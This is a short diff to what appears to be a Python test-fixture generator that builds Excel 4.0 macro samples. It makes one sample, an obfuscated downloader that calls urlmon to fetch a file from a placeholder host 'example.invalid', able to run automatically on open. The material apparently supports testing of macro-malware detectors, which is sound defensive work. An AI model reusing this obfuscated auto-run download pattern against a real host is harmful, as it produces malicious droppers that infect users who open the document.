@@ -313,7 +313,7 @@ def xlm_download():
                                f.string('JJCCJJ'), f.string('Example')), f.call(f.F_HALT)), auto=False)
 
 
-def xlm_effect_download():
+def xlm_effect_download(auto=True):
     """The names of library and function are computed, digit by digit, by what only evaluation sees."""
     f = office97
     fetch = ''.join(reversed('AeliFoTdaolnwoDLRU'))
@@ -322,7 +322,7 @@ def xlm_effect_download():
     cells = _column(f.call(f.F_CALL, f.string('urlmon'), f.ref(4, 1), f.string('JJCCJJ'), f.integer(0), f.string('http://example.invalid/inert.txt'),
                            f.string('..\\inert.txt'), f.integer(0), f.integer(0)), f.call(f.F_HALT))
     cells[(4, 1)] = f.Formula(name, 0.0)
-    return _xlm(cells)
+    return _xlm(cells, auto=auto)
 
 
 def xlm_register_beep():
